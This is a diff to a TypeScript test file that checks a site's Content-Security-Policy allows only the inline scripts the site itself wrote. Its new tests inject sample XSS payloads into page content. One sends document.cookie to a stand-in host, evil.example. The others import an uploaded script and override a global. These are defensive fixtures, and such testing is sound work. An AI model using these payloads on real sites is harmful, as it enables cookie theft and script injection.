@@ -1,5 +1,8 @@
 import { createHash } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
+import { scriptsAfterFirstPaint } from '../initial-js/scripts-after-paint';
+import { inlineScript } from '../renderer/inline-scripts';
+import { earlyInputScript } from '../src/app/islands/early-input';
 import { graphiqlPolicy, inlineScriptHashes, pagePolicy, securityHeaders } from './security-headers';
 
 const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
@@ -27,10 +30,8 @@ describe('inlineScriptHashes', () => {
 });
 
 describe('pagePolicy', () => {
-  const html = '<script>load()</script><p style="color:red">x</p>';
-
-  it('runs the site’s scripts and the page’s own inline ones, and nothing else', () => {
-    const policy = pagePolicy(html, false);
+  it('runs the site’s scripts and the inline ones it was given the hashes of, and nothing else', () => {
+    const policy = pagePolicy([sha256('load()'), sha256('load()')], false);
     expect(directive(policy, 'default-src')).toEqual(["'none'"]);
     expect(directive(policy, 'script-src')).toEqual(["'self'", sha256('load()')]);
     expect(directive(policy, 'frame-ancestors')).toEqual(["'none'"]);
@@ -41,7 +42,48 @@ describe('pagePolicy', () => {
   });
 
   it('upgrades insecure requests when the site is served over https', () => {
-    expect(directive(pagePolicy(html, true), 'upgrade-insecure-requests')).toEqual([]);
+    expect(directive(pagePolicy([], true), 'upgrade-insecure-requests')).toEqual([]);
+  });
+});
+
+describe('a page’s policy', () => {
+  /**
+   * A page put together as the server does it: the renderer's early-input script, the content, the
+   * entry script Vike adds (which the loader replaces), and the policy from the hashes the
+   * renderer and the loader made as they wrote their scripts.
+   */
+  const servedPage = (content: string) => {
+    const earlyInput = inlineScript(earlyInputScript);
+    const rendered =
+      `<html><head>${earlyInput.html}</head><body><div id="root"><article>${content}</article></div>` +
+      '<script type="application/json" id="island-page">{"locale":"ru"}</script>' +
+      '<script src="/assets/entries/page.js" type="module" async></script></body></html>';
+    const { html, scriptHashes } = scriptsAfterFirstPaint(rendered, [
+      { src: '/assets/entries/page.js', assetType: 'script', isEntry: true },
+    ]);
+    return { html, scriptSources: directive(pagePolicy([earlyInput.hash, ...scriptHashes], false), 'script-src') };
+  };
+  const content = '<p>Светильник <b>PLATO</b> для офиса.</p>';
+
+  it('allows exactly the inline scripts the site wrote', () => {
+    const page = servedPage(content);
+    // Read off the page only to check it: both of the site's scripts, and nothing more, are allowed.
+    expect(inlineScriptHashes(page.html)).toHaveLength(2);
+    expect(page.scriptSources).toEqual(["'self'", ...inlineScriptHashes(page.html)]);
+  });
+
+  it.each([
+    ['a script', '<script>fetch("//evil.example/?" + document.cookie)</script>'],
+    ['a module script', '<script type="module">import("/upload/evil.js")</script>'],
+    ['a script with a type', '<script type="text/javascript">window.loadScriptsNow = alert</script>'],
+  ])('gives %s injected into the content no hash: the policy is that of the page without it', (_what, injected) => {
+    const clean = servedPage(content);
+    const injectedPage = servedPage(`${content}${injected}`);
+    const injectedScript = /<script[^>]*>([\s\S]*?)<\/script>/.exec(injected)![1]!;
+    expect(injectedPage.html).toContain(injected);
+    expect(inlineScriptHashes(injectedPage.html)).toContain(sha256(injectedScript));
+    expect(injectedPage.scriptSources).not.toContain(sha256(injectedScript));
+    expect(injectedPage.scriptSources).toEqual(clean.scriptSources);
   });
 });
 
